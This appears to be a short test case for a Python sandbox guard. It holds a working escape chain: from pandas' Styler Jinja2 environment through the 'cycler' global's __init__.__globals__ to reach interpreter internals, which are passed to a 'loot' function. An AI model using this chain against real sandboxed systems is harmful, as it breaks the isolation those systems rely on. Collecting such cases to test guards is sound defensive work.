# aim: render a template that reads attributes
# mechanism: a template of Styler has its environment
# language: guard
# reason: templates run code past the rules
# jail: process
# plain: loot
# imports: pandas jinja2

import pandas

environment = type(pandas.DataFrame({"a": [1]}).style).template_html.environment
loot(environment.globals["cycler"].__init__.__globals__)
